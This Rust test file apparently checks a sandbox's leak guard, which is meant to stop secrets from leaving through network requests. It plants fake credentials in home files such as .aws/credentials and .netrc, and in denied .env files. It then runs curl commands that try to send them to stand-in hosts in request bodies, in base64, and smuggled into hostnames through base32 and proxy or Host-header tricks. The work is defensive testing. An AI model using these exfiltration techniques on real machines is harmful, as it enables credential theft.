//! What the leak guard knows by itself: secrets in known places of the home and in what the policy denies, however they look.

use ringfence_promises::World;

const NETWORK: &str = "allow = [{ host = \"allowed.example\", methods = [\"GET\", \"POST\"] }]";

/// Where each lies, what stands there, and the secret in it.
const HOME: &[(&str, &str, &str)] = &[
    (".netrc", "machine a.example login me password nrcPassWord99887766\n", "nrcPassWord99887766"),
    (".pgpass", "db.example:5432:*:me:S3cr3t-PgPassw0rd\n", "S3cr3t-PgPassw0rd"),
    (
        ".aws/credentials",
        "[default]\naws_access_key_id = AKIAQ3EGTZ5XW7RB2LMN\naws_secret_access_key = Zx81kQp0/aLw93RtYbn47VdqZ/Qd+hGf3AeUi1Qo\n",
        "Zx81kQp0/aLw93RtYbn47VdqZ/Qd+hGf3AeUi1Qo",
    ),
    (".aws/sso/cache/it.json", "{\"accessToken\": \"plain-sso-token-word\"}", "plain-sso-token-word"),
    (
        ".kube/config",
        "users:\n- name: me\n  user:\n    token: plain-kube-token-word\n",
        "plain-kube-token-word",
    ),
    (
        ".config/gh/hosts.yml",
        "github.com:\n    oauth_token: plain-oauth-token-word\n",
        "plain-oauth-token-word",
    ),
    (".git-credentials", "https://me:git%2Fpass-word-7@git.example\n", "git/pass-word-7"),
    (
        ".docker/config.json",
        "{\"auths\":{\"r\":{\"auth\":\"bWU6cGFzcy13b3JkLW9mLW1lLTE=\"}}}",
        "pass-word-of-me-1",
    ),
    (".npmrc", "//registry.example/:_authToken=plain-npm-token-word\n", "plain-npm-token-word"),
    (".pypirc", "[pypi]\npassword = plain-upload-word\n", "plain-upload-word"),
    (".vault-token", "plain-vault-token-word", "plain-vault-token-word"),
];
const DENIED: &[(&str, &str, &str)] = &[
    (".env", "DB_PASSWORD='Tr0ub4dor&3'\n", "Tr0ub4dor&3"),
    (
        "service/.env",
        "SESSION_SECRET=plain-session-secret\nPORT=8080\nHOST=allowed.example\n",
        "plain-session-secret",
    ),
    ("private/deep/key", "plain-word-of-a-file\n", "plain-word-of-a-file"),
];

/// A world in which they lie, and a policy; the secrets, a line each.
fn world(leaks: &str) -> (World, String, String) {
    let world = World::new();
    for (path, text, _) in HOME {
        world.place.write(world.place.home.join(path), text);
    }
    for (path, text, _) in DENIED {
        world.place.write(path, text);
    }
    // The kernel's own, and what waits for ever.
    let waits = world.place.workspace.join("private/waits");
    rustix::fs::mkfifoat(rustix::fs::CWD, waits, rustix::fs::Mode::RUSR).unwrap();
    std::os::unix::fs::symlink("/dev/zero", world.place.workspace.join("private/zero")).unwrap();
    let policy = world.policy(&format!("{NETWORK}\n[leaks]\n{leaks}\n"));
    let text = std::fs::read_to_string(&policy).unwrap();
    let denied = "[files]\ndeny = [\"**/.env\", \"private/**\"]\n";
    std::fs::write(&policy, text.replace("[files]\n", denied)).unwrap();
    let secrets = HOME.iter().chain(DENIED).map(|(_, _, secret)| format!("{secret}\n")).collect();
    (world, policy, secrets)
}

#[test]
fn secrets_in_known_places_and_in_what_is_denied_leave_in_no_request() {
    let (world, policy, secrets) = world("scan = [\"egress\"]");
    world.place.write("words", &secrets);
    world.place.write(
        "ordinary",
        "machine login password token allowed.example me registry.example PORT=8080 us-central1-docker.pkg.dev",
    );
    let outcome = world.host(&format!(
        r#"export SSL_CERT_FILE=$BASE/ca.pem; exec "$RF" run --quiet --policy {policy} --workspace . -- bash -c '
code() {{ curl -sm9 -o /dev/null -w "%{{http_code}}" https://allowed.example/repo/x "$@"; }}
while read -r word; do echo "$(code --data-binary "x $word") $(printf %s "$word" | base64 -w0 | code -d @-) $word"; done < words
echo "$(code --data-binary @ordinary) ordinary"'"#
    ));
    let expected: String = secrets.lines().map(|word| format!("403 403 {word}\n")).collect();
    assert_eq!(outcome.out, format!("{expected}200 ordinary\n"), "{outcome:?}");
    let (heads, bodies) = (world.log("heads.log"), world.log("bodies.log"));
    let events = serde_json::to_string(&world.events()).unwrap();
    for word in secrets.lines() {
        assert!(!heads.contains(word) && !bodies.contains(word) && !events.contains(word), "{word}");
    }
    for path in ["home/.pgpass", "/.aws/credentials", "home/w/service/.env", "home/w/private/deep/key"] {
        assert!(events.contains(&format!("{path}, ")), "{path}: {events}");
    }
}

#[test]
fn what_is_denied_is_known_to_what_looks_through_output_and_changes() {
    let (world, policy, _) = world("scan = [\"output\", \"workspace\"]\naction = \"mask\"");
    let secret = DENIED[1].2;
    let half = secret.split_at(9);
    let script = format!("printf %s {} > new; printf %s {} >> new; cat new", half.0, half.1);
    let outcome = world.host(&format!(
        "\"$RF\" run --quiet --policy {policy} --workspace . -- sh -c '{script}'; echo; \"$RF\" diff --json"
    ));
    assert!(outcome.out.starts_with(&"x".repeat(secret.len())), "{outcome:?}");
    assert!(!outcome.out.contains(secret) && outcome.out.contains("service/.env"), "{outcome:?}");
}

/// Whoever writes what is denied crowds out nothing, and is told of.
#[test]
fn more_secrets_than_are_looked_for_are_told_of() {
    let (world, policy, _) = world("scan = [\"egress\"]");
    for file in 0..20 {
        let text: String =
            (0..64).map(|line| format!("A_TOKEN=plain-word-{file}-{line}-of-many\n")).collect();
        world.place.write(format!("private/many/{file}"), &text);
    }
    world
        .place
        .write("words", HOME.iter().map(|(_, _, secret)| format!("{secret}\n")).collect::<String>().as_str());
    let outcome = world.host(&format!(
        r#"export SSL_CERT_FILE=$BASE/ca.pem; exec "$RF" run --quiet --policy {policy} --workspace . -- bash -c '
while read -r word; do curl -sm9 -o /dev/null -w "%{{http_code}} " https://allowed.example/repo/x --data-binary "$word"; done < words'"#
    ));
    assert_eq!(outcome.out, "403 ".repeat(HOME.len()), "{outcome:?}");
    assert!(outcome.err.contains("the first 512 are looked for"), "{outcome:?}");
}

#[test]
fn ordinary_requests_pass() {
    let (world, policy, secrets) = world("scan = [\"egress\"]");
    world.place.write("ordinary.py", include_str!("../world/ordinary.py"));
    world.place.write("clients.py", include_str!("../world/clients.py"));
    let outcome = world.host(&format!(
        "export SSL_CERT_FILE=$BASE/ca.pem; exec \"$RF\" run --quiet --policy {policy} --workspace . -- env PYTHONDONTWRITEBYTECODE=1 python3 ordinary.py"
    ));
    let mut words = outcome.out.split(' ');
    let mut number = || words.next().and_then(|word| word.parse::<u64>().ok()).unwrap_or(0);
    assert!(number() > 500 && number() > 8 << 20 && outcome.out.ends_with(" []\n"), "{outcome:?}");
    assert!(!world.log("heads.log").contains(secrets.lines().next().unwrap()));
}

#[test]
fn no_name_that_is_refused_is_written_down_with_a_secret_in_it() {
    let world = World::new();
    let secret = "0123456789abcdef77aa66bb55cc44dd";
    let network = "allow = [{ host = \"allowed.example\", methods = [\"GET\"] }, \"*.wild.example\", \"allowed.example:80\"]";
    let policy = world.policy(&format!("{network}\n[leaks]\nscan = [\"egress\"]\n"));
    world.place.write("words", secret);
    world.place.write("ask.py", include_str!("../world/names.py"));
    let outcome = world.host(&format!(
        r#"export SSL_CERT_FILE=$BASE/ca.pem APP_TOKEN={secret}; "$RF" run --quiet --policy {policy} --workspace . -- bash -c '
s=$(cat words)
for name in $s ${{s:0:16}}.${{s:16}} $(printf %s $s | base32 | tr -d = | cut -c1-52) $s-x$s.deep; do
    curl -skm9 --connect-to ::allowed.example:443 https://$name.wild.example/
    curl -skm9 --connect-to ::allowed.example:443 https://$name.other.example/
    curl -skm9 -H "Host: $name.other.example" https://allowed.example/ http://allowed.example/
    curl -skm9 -px http://allowed.example:80 https://$name.other.example/
    curl -skm9 -x http://allowed.example:80 http://$name.other.example/
    python3 ask.py $name
done; true' >/dev/null; "$RF" explain --all"#
    ));
    let events = serde_json::to_string(&world.events()).unwrap();
    for text in [&outcome.out, &outcome.err, &events] {
        let text = text.to_ascii_lowercase();
        for part in [secret, &secret[..16], &secret[16..], "gaytemzugu3dooby"] {
            assert!(!text.contains(part), "{part}: {text}");
        }
    }
    assert!(
        events.contains("the variable APP_TOKEN of whoever started this, raw, is in what was asked for"),
        "{events}"
    );
    assert!(outcome.out.contains("(a name that is not written down)"), "{outcome:?}");
    // The name that holds none is told of as ever.
    let outcome = world.run(
        &format!("{network}\n[leaks]\nscan = [\"egress\"]\n"),
        "curl -skm9 --connect-to ::allowed.example:443 https://no-secret.other.example/; true",
    );
    let rule = "names another server, `no-secret.other.example`";
    assert!(
        serde_json::to_string(&world.events()).unwrap().contains(rule),
        "{outcome:?} {:?}",
        world.events()
    );
}
